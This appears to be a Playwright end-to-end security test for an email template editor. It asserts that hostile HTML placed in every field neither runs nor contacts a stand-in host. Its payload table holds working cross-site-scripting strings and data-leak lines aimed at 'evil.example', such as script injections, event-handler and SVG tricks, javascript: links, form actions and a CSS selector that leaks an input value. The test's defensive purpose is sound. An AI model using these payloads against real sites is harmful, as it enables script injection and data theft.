"""Emails by somebody who means harm: nothing of theirs runs or calls out, wherever it stands."""

import json
from typing import Any

import pytest
from playwright.sync_api import Page, Request, expect
from tests.builders import Json
from tests.e2e.conftest import Site
from tests.e2e.visitors import Visitor

EVIL = "https://evil.example"
RAN = "window.top.__ran = (window.top.__ran || []).concat('%s')"


def marked(name: str) -> str:
    return RAN % name


PAYLOADS = {
    "script": f"<script>{marked('script')}</script><script src='{EVIL}/script.js'></script>",
    "handler": f"""<img src="data:," onerror="{marked("handler")}">
        <b onmouseover="{marked("over")}">x</b>""",
    "svg": f"""<svg onload="{marked("svg")}">
        <animate onbegin="{marked("begin")}" attributeName=x></svg>""",
    "math": f"""<math><mtext><style>
        <img src=x onerror="{marked("math")}"></style></mtext></math>""",
    "frames": f"""<iframe src='{EVIL}/frame'></iframe><object data='{EVIL}/object'></object>
        <iframe srcdoc="<script>{marked("doc")}</script>"></iframe><embed src='{EVIL}/embed'>""",
    "links": f"""<a href="javascript:{marked("link")}">x</a><a href='x' ping='{EVIL}/ping'>y</a>""",
    "forms": f"""<form action='{EVIL}/form'>
        <input name=a value=secret autofocus onfocus="{marked("focus")}">
        <button formaction="javascript:{marked("action")}">b</button></form>""",
    "head": f"""<meta http-equiv=refresh content='0;url={EVIL}/refresh'><base href='{EVIL}/base/'>
        <link rel=preload as=image href='{EVIL}/preload'>""",
    "sheet": f"<link rel=stylesheet href='{EVIL}/sheet.css'>",
    "styles": f"""<style>@import '{EVIL}/import.css';
        input[value^=s] {{ background: url({EVIL}/leak) }}</style><input value=secret>""",
    "media": f"""<video src='{EVIL}/video' autoplay></video><audio src='{EVIL}/audio' autoplay>
        </audio><x onclick="{marked("click")}" tabindex=0>x</x>""",
    "attribute": f"""'"><script>{marked("attribute")}</script><p title='""",
    "address": f"javascript:{marked('address')}",
    "page": f"data:text/html,<script>{marked('page')}</script>",
    "comment": f"--><script>{marked('comment')}</script><!--",
    "style": f"red;}}</style><script>{marked('style')}</script>",
}

# an email may name stylesheets, for its fonts: a preview loads what readers' programs load
LOADED = {f"{EVIL}/sheet.css"}


def everywhere(payload: str) -> Json:
    """A document that says it in every field there is."""
    content: list[dict[str, Any]] = [
        {"type": "text", "id": "text", "html": payload, "name": payload, "cssClass": "plain"},
        {"type": "text", "id": "rich", "text": rich(payload)},
        {"type": "button", "id": "link", "html": payload, "props": {"href": payload}},
        {
            "type": "image",
            "id": "image",
            "props": {"src": f"data:,{payload}", "alt": payload, "title": payload, "href": payload},
            "extra": {"onclick": payload},
        },
        {"type": "table", "id": "table", "html": f"<tr><td>{payload}</td></tr>"},
        {"type": "html", "id": "html", "html": payload},
        {"type": "divider", "id": "line", "props": {"borderColor": payload}, "dark": {}},
        {
            "type": "mjml",
            "id": "mjml",
            "tag": "mj-text",
            "attrs": {"color": payload},
            "html": payload,
        },
    ]
    column = {"type": "column", "id": "column", "children": content}
    section = {
        "type": "section",
        "id": "section",
        "children": [column],
        "props": {"backgroundColor": payload},
    }
    return {
        "schemaVersion": 1,
        "meta": {"subject": " ".join(payload.split()), "preheader": payload, "title": payload},
        "theme": {"tokens": {"brand": payload}, "css": [{"css": payload}]},
        "head": [payload],
        "children": [section],
    }


def rich(payload: str) -> Json:
    mark = {"type": "link", "attrs": {"href": payload}}
    said = [{"type": "text", "text": payload}, {"type": "text", "text": "go", "marks": [mark]}]
    return {"type": "doc", "content": [{"type": "paragraph", "content": said}]}


def watched(page: Page) -> list[str]:
    """What is asked of the harmful place, while it is asked."""
    asked: list[str] = []

    def hear(request: Request) -> None:
        if request.url.startswith(EVIL):
            asked.append(request.url)

    page.on("request", hear)
    return asked


def require_harmless(page: Page, asked: list[str]) -> None:
    assert page.evaluate("() => window.__ran ?? []") == []
    assert asked == []
    assert page.url.startswith("http://127.0.0.1")


PICTURE = "() => performance.getEntriesByName('editor:painted').length > 0"


@pytest.mark.parametrize("name", PAYLOADS)
def test_an_email_that_means_harm(ada: Visitor, site: Site, name: str) -> None:
    address = site.template(f"Harm {name}", mjml="<mjml><mj-body></mj-body></mjml>")
    draft = {
        "format": "design",
        "source": "",
        "subject": " ".join(PAYLOADS[name].split()),
        "preheader": None,
    }
    draft["source"] = json.dumps(everywhere(PAYLOADS[name]))
    answer = site.program.put(f"/api{address}/draft", json=draft)
    assert answer.is_success, answer.text
    ada.expects(400, 422)
    # the browser tells of everything that a policy has kept from happening
    ada.expects_report("violates the following Content Security Policy directive")
    asked = watched(ada.page)
    ada.open(f"{address}?view=design&tab=closed")
    expect(ada.page.get_by_role("application", name="Email canvas")).to_be_visible()
    ada.page.wait_for_function(PICTURE)
    frame = ada.page.frame_locator("[data-canvas-stage] iframe")
    frame.locator("body").evaluate(
        "(body) => body.querySelectorAll('*').forEach((e) => e.click?.())"
    )
    require_harmless(ada.page, asked)
    ada.page.get_by_role("radio", name="Preview").click()
    expect(ada.page.get_by_title("Preview of the email").first).to_be_attached()
    require_harmless(ada.page, [address for address in asked if address not in LOADED])
